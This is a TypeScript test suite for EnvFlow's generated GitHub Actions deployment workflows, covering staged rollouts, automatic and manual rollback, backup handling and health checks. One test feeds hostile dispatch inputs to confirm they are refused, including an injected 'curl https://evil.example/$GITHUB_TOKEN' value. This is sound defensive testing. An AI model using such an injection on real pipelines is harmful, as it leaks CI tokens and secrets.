/**
 * The workflows Set Up writes, played step by step by the pipeline runner against the
 * GitHub API server, then read by EnvFlow's real RepositoryModel: develop deploys and
 * Promote's gate passes; main rolls out in three stages; a failed health check rolls
 * back as a new deployment of the last good commit; Roll Back's dispatch deploys its
 * target; hostile targets are refused before any secret; a failed backup rolls out nothing;
 * without a health-check hook the default HTTP check decides; Back Up's annotated tags
 * are Roll Back targets, and a backup made in a second another took is tagged -2.
 */
import * as assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { defaultFlowConfig, type FlowConfig } from '../../../src/core/model/flowConfig';
import { promoteGate } from '../../../src/core/flow/gates';
import type { RepositoryModel } from '../../../src/core/flow/repositoryModel';
import { setupFiles } from '../../../src/core/setup/plan';
import { detectStack } from '../../../src/core/setup/stack';
import { createGitHubFixture, FIXTURE_OWNER, FIXTURE_REPO, type GitHubFixture } from '../../support/githubFixture';
import { githubModel } from '../../support/githubModel';
import {
  runWorkflow,
  type PipelineEnvironment,
  type RunRecord,
  type WorkflowEvent,
} from '../../../tools/pipeline/runner';
import { openCounted } from '../../support/openRepository';
import { CONTROL_VARIABLE, TEST_HOOKS } from './hooks';

interface EnvFlowRecord {
  id: number;
  sha: string;
  payload: {
    envflow?: number;
    kind?: string;
    backup?: { tag: string | null; data: string | null } | null;
    replaces?: number | null;
  };
  statuses: { state: string; description: string }[];
}

describe('pipeline: the generated workflows, run', function () {
  this.timeout(120_000);
  let fx: GitHubFixture;
  let control: string;
  let pipeline: PipelineEnvironment;
  let model: RepositoryModel;
  const config: FlowConfig = { ...defaultFlowConfig };
  const sha: Record<string, string> = {};
  let scenarios = 0;
  let passed = 0;

  const origin = (...args: string[]) => fx.repo.git('--git-dir', fx.repo.origin, ...args);

  /** Commits on `branch` and pushes it; returns the commit. */
  async function pushCommit(branch: string, message: string, files: Record<string, string>): Promise<string> {
    await fx.repo.git('switch', '--quiet', branch);
    const commit = await fx.repo.commit(message, files);
    await fx.repo.git('push', '--quiet', 'origin', branch);
    return commit;
  }

  /** GitHub starts the workflow of the pushed commit; this plays it. */
  async function playPush(workflow: string, branch: string, commit: string): Promise<RunRecord> {
    return play(workflow, { name: 'push', ref: `refs/heads/${branch}`, sha: commit });
  }

  async function play(
    workflow: string,
    event: WorkflowEvent,
    overrides: Partial<PipelineEnvironment> = {},
  ): Promise<RunRecord> {
    const text = await origin('show', `${event.sha}:.github/workflows/${workflow}`);
    return runWorkflow(`${text}\n`, event, { ...pipeline, ...overrides });
  }

  /** What EnvFlow's Roll Back sends, then the run GitHub starts for it. */
  async function dispatchDeploy(inputs: Record<string, string>, ref = config.productionBranch): Promise<RunRecord> {
    const response = await fetch(
      `${fx.apiUrl}/repos/${FIXTURE_OWNER}/${FIXTURE_REPO}/actions/workflows/deploy.yml/dispatches`,
      {
        method: 'POST',
        headers: {
          authorization: `Bearer ${fx.token}`,
          accept: 'application/vnd.github+json',
          'content-type': 'application/json',
        },
        body: JSON.stringify({ ref, inputs }),
      },
    );
    assert.equal(response.status, 204, await response.text());
    const dispatched = fx.server.state.workflowDispatches.shift();
    assert.ok(dispatched);
    const head = await origin('rev-parse', `${dispatched.ref}^{commit}`);
    return play(dispatched.workflow, {
      name: 'workflow_dispatch',
      ref: dispatched.ref,
      sha: head,
      inputs: dispatched.inputs,
    });
  }

  /** EnvFlow's deployment records of an environment (payload envflow: 1), oldest first, with their statuses oldest first. */
  function envflowRecords(environment: string): EnvFlowRecord[] {
    const { state } = fx.server;
    return state.deployments
      .filter(
        (d) =>
          d.environment === environment &&
          typeof d.payload === 'object' &&
          (d.payload as { envflow?: number }).envflow === 1,
      )
      .sort((a, b) => a.id - b.id)
      .map((d) => ({
        id: d.id,
        sha: d.sha,
        payload: d.payload as EnvFlowRecord['payload'],
        statuses: state.statusesOf(d.id).map((s) => ({ state: s.state, description: s.description })),
      }));
  }

  const lines = async (name: string) =>
    (await readFile(join(control, name), 'utf8').catch(() => '')).split('\n').filter(Boolean);
  const live = async (environment: string) => (await readFile(join(control, `live-${environment}`), 'utf8')).trim();
  const mark = (name: string) => writeFile(join(control, name), '');

  before(async () => {
    fx = await createGitHubFixture({ name: 'pipeline' });
    control = await mkdtemp(join(tmpdir(), 'envflow-pipeline-control-'));
    // What Set Up writes for this repository, plus the hooks the user fills in.
    await fx.repo.git('switch', '--quiet', config.productionBranch);
    const files = setupFiles(await detectStack(fx.repo.root), config);
    for (const file of files) {
      await fx.repo.write(file.path, file.content);
    }
    for (const [path, content] of Object.entries(TEST_HOOKS)) {
      await mkdir(dirname(join(fx.repo.root, path)), { recursive: true });
      await writeFile(join(fx.repo.root, path), content);
      await chmod(join(fx.repo.root, path), 0o755);
    }
    await fx.repo.git('add', '--all');
    sha.setup = await fx.repo.commit('Set up EnvFlow delivery');
    await fx.repo.git('push', '--quiet', 'origin', config.productionBranch);
    await fx.repo.git('switch', '--quiet', config.developBranch);
    await fx.repo.git('merge', '--quiet', '--ff-only', config.productionBranch);
    await fx.repo.git('push', '--quiet', 'origin', config.developBranch);
    pipeline = {
      server: fx.server,
      owner: FIXTURE_OWNER,
      repo: FIXTURE_REPO,
      token: fx.token,
      origin: fx.repo.origin,
      workRoot: await mkdtemp(join(tmpdir(), 'envflow-pipeline-runs-')),
      hookEnv: { [CONTROL_VARIABLE]: control },
    };
    const modelConfig = { ...config, apiUrl: fx.apiUrl };
    model = githubModel(fx, {
      git: (await openCounted(fx.repo.root)).repo,
      config: () => modelConfig,
    });
  });

  it("develop deploys to development, and Promote's gate passes", async () => {
    sha.feature = await pushCommit(config.developBranch, 'Add the cart', { 'cart.txt': 'cart\n' });
    // CI's check on develop's head (the CI workflow runs the project's tests, not part of delivery).
    fx.server.addCheckRun(sha.feature, { name: 'ci', status: 'completed', conclusion: 'success' });
    const run = await playPush('deploy-development.yml', config.developBranch, sha.feature);
    assert.equal(run.jobs.deploy.result, 'success', run.log);
    const [record] = envflowRecords(config.developmentEnvironment);
    assert.equal(record.sha, sha.feature);
    assert.deepEqual(record.payload, { envflow: 1, kind: 'rollout', backup: null, replaces: null });
    assert.deepEqual(
      record.statuses.map((s) => `${s.state} ${s.description}`),
      ['in_progress Rolling out · 100 %', 'success Live'],
    );
    assert.deepEqual(await lines('deploys'), [`${config.developmentEnvironment} 100 ${sha.feature}`]);
    const { snapshot } = await model.refresh('full');
    assert.equal(snapshot.development.deployment?.sha, sha.feature);
    assert.equal(snapshot.development.deployment?.state, 'success');
    const gate = promoteGate(snapshot, config);
    assert.ok(gate.ok, JSON.stringify(gate));
  });

  it('a push to main rolls out through 10, 50 and 100 % after a backup', async () => {
    await fx.repo.git('switch', '--quiet', config.productionBranch);
    await fx.repo.git('merge', '--quiet', '--no-ff', '-m', 'Release 1', config.developBranch);
    await fx.repo.git('push', '--quiet', 'origin', config.productionBranch);
    sha.release1 = await fx.repo.git('rev-parse', 'HEAD');
    const run = await playPush('deploy.yml', config.productionBranch, sha.release1);
    assert.equal(run.jobs.deploy.result, 'success', run.log);
    assert.equal(run.jobs.rollback.result, 'skipped');
    const [record] = envflowRecords(config.productionEnvironment);
    assert.equal(record.sha, sha.release1);
    // Nothing ran in production before: no code to tag; the data hook still ran.
    assert.deepEqual(record.payload, {
      envflow: 1,
      kind: 'rollout',
      backup: { tag: null, data: 'db-1' },
      replaces: null,
    });
    assert.deepEqual(
      record.statuses.map((s) => `${s.state} ${s.description}`),
      [
        'in_progress Backing up',
        'in_progress Rolling out · 10 %',
        'in_progress Rolling out · 50 %',
        'in_progress Rolling out · 100 %',
        'success Live',
      ],
    );
    assert.deepEqual(
      (await lines('deploys')).slice(-3),
      [10, 50, 100].map((stage) => `${config.productionEnvironment} ${stage} ${sha.release1}`),
    );
    assert.equal(await live(config.productionEnvironment), sha.release1);
    const { snapshot } = await model.refresh('full');
    assert.equal(snapshot.production.deployment?.sha, sha.release1);
    assert.equal(snapshot.production.deployment?.state, 'success');
  });

  it('a health check failing at 50 % rolls back automatically: a new deployment of the last good commit', async () => {
    sha.release2 = await pushCommit(config.productionBranch, 'Release 2', { 'release.txt': '2\n' });
    await mark(`fail-health-50-${sha.release2}`);
    const run = await playPush('deploy.yml', config.productionBranch, sha.release2);
    assert.equal(run.jobs.deploy.result, 'failure');
    assert.equal(run.jobs.rollback.result, 'success', run.log);
    const records = envflowRecords(config.productionEnvironment);
    const [failed, rollback] = records.slice(-2);
    assert.equal(failed.sha, sha.release2);
    assert.deepEqual(failed.statuses.at(-1), { state: 'failure', description: 'Health check failed at 50 %' });
    assert.match(failed.payload.backup?.tag ?? '', /^backup\/production-\d{8}T\d{6}Z$/);
    assert.equal(
      await origin('rev-parse', `refs/tags/${failed.payload.backup?.tag}^{commit}`),
      sha.release1,
      'the backup tag is on the commit being replaced',
    );
    assert.equal(rollback.sha, sha.release1);
    assert.deepEqual(rollback.payload, {
      envflow: 1,
      kind: 'automatic-rollback',
      backup: { tag: failed.payload.backup?.tag, data: null },
      replaces: failed.id,
    });
    assert.deepEqual(
      rollback.statuses.map((s) => `${s.state} ${s.description}`),
      ['in_progress Rolling out · 100 %', `success Rolled back automatically from ${sha.release2.slice(0, 7)}`],
    );
    assert.equal(await live(config.productionEnvironment), sha.release1, 'the last good commit runs again');
    const { snapshot } = await model.refresh('full');
    assert.equal(snapshot.production.deployment?.sha, sha.release1);
    assert.equal(snapshot.production.deployment?.state, 'success');
    // The model reads statuses of the newest deployment only; the failed one's own statuses are asserted above.
    assert.ok(
      snapshot.production.history.some((d) => d.sha === sha.release2),
      'the failed deployment stays in the history',
    );
  });

  it("EnvFlow's Roll Back dispatch makes the workflow deploy the target, and restores the matching data backup", async () => {
    sha.release3 = await pushCommit(config.productionBranch, 'Release 3', { 'release.txt': '3\n' });
    const rollout = await playPush('deploy.yml', config.productionBranch, sha.release3);
    assert.equal(rollout.jobs.deploy.result, 'success', rollout.log);
    const release3 = envflowRecords(config.productionEnvironment).at(-1);
    assert.equal(await live(config.productionEnvironment), sha.release3);
    const run = await dispatchDeploy({
      target: sha.release1,
      reason: 'rollback',
      data_backup: String(release3?.payload.backup?.data),
    });
    assert.equal(run.jobs.deploy.result, 'success', run.log);
    const record = envflowRecords(config.productionEnvironment).at(-1);
    assert.equal(record?.sha, sha.release1);
    assert.equal(record?.payload.kind, 'rollback');
    assert.equal(record?.payload.replaces, release3?.id);
    assert.equal(record?.statuses.at(-1)?.description, 'Live');
    assert.deepEqual(await lines('restores'), [String(release3?.payload.backup?.data)]);
    assert.equal(await live(config.productionEnvironment), sha.release1);
    const { snapshot } = await model.refresh('full');
    assert.equal(snapshot.production.deployment?.sha, sha.release1);
    assert.equal(snapshot.production.deployment?.state, 'success');
  });

  it('hostile targets and refs are refused before any environment or secret is used', async () => {
    await fx.repo.git('switch', '--quiet', '--create', 'feature/evil', config.developBranch);
    sha.evil = await fx.repo.commit('Exfiltrate', { '.envflow/deploy.sh': '#!/bin/sh\necho stolen\n' });
    await fx.repo.git('push', '--quiet', 'origin', 'feature/evil');
    const before = fx.server.state.deployments.length;
    const deploysBefore = (await lines('deploys')).length;
    const cases: [Record<string, string>, string | undefined, RegExp][] = [
      [{ target: sha.evil, reason: 'rollback' }, undefined, /is not on the first-parent history of main/],
      // On main's first parents, but its only successful record is GitHub's own for the job, not EnvFlow's.
      [{ target: sha.release2, reason: 'redeploy' }, undefined, /never had a successful production deployment/],
      [{ target: 'refs/pull/1/head', reason: 'rollback' }, undefined, /The target must be a backup tag/],
      [
        { target: 'main"; curl https://evil.example/$GITHUB_TOKEN #', reason: 'rollback' },
        undefined,
        /The target must be a backup tag/,
      ],
      [{ target: sha.release1, reason: 'rollback' }, 'feature/evil', /Production deploys only from main/],
      [
        { target: 'backup/production-20990101T000000Z', reason: 'rollback' },
        undefined,
        /There is no backup tag by that name/,
      ],
    ];
    for (const [inputs, ref, sentence] of cases) {
      const run = await dispatchDeploy(inputs, ref);
      assert.equal(run.jobs.vet.result, 'failure', `${JSON.stringify(inputs)} was refused`);
      assert.deepEqual(run.environmentJobs, [], 'no job with the environment (and its secrets) started');
      assert.match(run.log, sentence);
      assert.doesNotMatch(run.log, /stolen/);
    }
    assert.equal(fx.server.state.deployments.length, before, 'no deployment was recorded');
    assert.equal((await lines('deploys')).length, deploysBefore, 'nothing was deployed');
  });

  it('a failing data backup stops the rollout before anything is rolled out', async () => {
    await mark('fail-backup');
    sha.release4 = await pushCommit(config.productionBranch, 'Release 4', { 'release.txt': '4\n' });
    const run = await playPush('deploy.yml', config.productionBranch, sha.release4);
    await rm(join(control, 'fail-backup'));
    assert.equal(run.jobs.deploy.result, 'failure');
    assert.equal(run.jobs.rollback.result, 'skipped', 'nothing to roll back');
    const record = envflowRecords(config.productionEnvironment).at(-1);
    assert.equal(record?.sha, sha.release4);
    assert.deepEqual(
      record?.statuses.map((s) => `${s.state} ${s.description}`),
      ['in_progress Backing up', 'failure Backup failed: nothing was rolled out'],
    );
    assert.ok(
      !(await lines('deploys')).some((line) => line.endsWith(sha.release4)),
      'the deploy hook never ran for it',
    );
    assert.equal(await live(config.productionEnvironment), sha.release1, 'production still runs what it ran');
    const { snapshot } = await model.refresh('full');
    assert.equal(snapshot.production.deployment?.sha, sha.release4);
    assert.equal(snapshot.production.deployment?.state, 'failure');
  });

  it('without a health-check hook, the default check GETs the environment URL with retries and fails at three failed answers', async () => {
    let answer = 503;
    const answers: number[] = [];
    const site = createServer((_request, response) => {
      answers.push(answer);
      response.writeHead(answer).end();
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`;
      await fx.repo.git('switch', '--quiet', config.developBranch);
      await fx.repo.git('rm', '--quiet', '.envflow/health-check.sh');
      sha.noHook = await fx.repo.commit('Use the default health check');
      await fx.repo.git('push', '--quiet', 'origin', config.developBranch);
      const overrides = {
        vars: { DEVELOPMENT_URL: url },
        hookEnv: { ...pipeline.hookEnv, HEALTH_CHECK_INTERVAL_SECONDS: '0' },
      };
      const event: WorkflowEvent = { name: 'push', ref: `refs/heads/${config.developBranch}`, sha: sha.noHook };
      const failing = await play('deploy-development.yml', event, overrides);
      assert.equal(failing.jobs.deploy.result, 'failure');
      assert.deepEqual(answers, [503, 503, 503], 'stops at the third failed answer');
      assert.match(failing.log, /failed 3 of 3 health checks/);
      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), {
        state: 'failure',
        description: 'Health check failed at 100 %',
      });
      answers.length = 0;
      answer = 200;
      const passing = await play('deploy-development.yml', event, overrides);
      assert.equal(passing.jobs.deploy.result, 'success', passing.log);
      assert.deepEqual(answers, [200, 200, 200, 200, 200]);
      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), {
        state: 'success',
        description: 'Live',
      });
    } finally {
      await new Promise((resolve) => site.close(resolve));
    }
  });

  it("a backup tag EnvFlow's Back Up made (annotated) is a Roll Back target, and a second backup in the same second is tagged -2", async () => {
    const running = await live(config.productionEnvironment);
    // Back Up's annotated tags of what runs, one for every second the next rollout could back up in.
    const now = Date.now();
    const names = Array.from(
      { length: 30 },
      (_, i) =>
        `backup/production-${new Date(now + i * 1000)
          .toISOString()
          .replace(/[-:]/g, '')
          .replace(/\.\d{3}Z$/, 'Z')}`,
    );
    for (const name of names) {
      await fx.repo.git('tag', '--annotate', '--message=Backup of production', name, running);
    }
    await fx.repo.git('push', '--quiet', 'origin', ...names.map((name) => `refs/tags/${name}`));

    sha.release5 = await pushCommit(config.productionBranch, 'Release 5', { 'release.txt': '5\n' });
    const rollout = await playPush('deploy.yml', config.productionBranch, sha.release5);
    assert.equal(rollout.jobs.deploy.result, 'success', rollout.log);
    const backup = envflowRecords(config.productionEnvironment).at(-1)?.payload.backup?.tag ?? '';
    assert.match(backup, /^backup\/production-\d{8}T\d{6}Z-2$/, 'the name Back Up took this second, with -2');
    assert.equal(await origin('rev-parse', `refs/tags/${backup}^{commit}`), running);

    const rollback = await dispatchDeploy({ target: names[0], reason: 'rollback' });
    assert.equal(rollback.jobs.deploy.result, 'success', rollback.log);
    const record = envflowRecords(config.productionEnvironment).at(-1);
    assert.deepEqual([record?.sha, record?.payload.kind], [running, 'rollback'], 'the annotated tag, peeled');
    assert.equal(await live(config.productionEnvironment), running);
  });

  afterEach(function () {
    scenarios += 1;
    if (this.currentTest?.state === 'passed') {
      passed += 1;
    }
  });

  after(async () => {
    console.log(`pipeline scenarios: ${scenarios}, ${passed} passed`);
    await rm(pipeline?.workRoot ?? '', { recursive: true, force: true });
    await rm(control ?? '', { recursive: true, force: true });
    await fx?.dispose();
  });
});
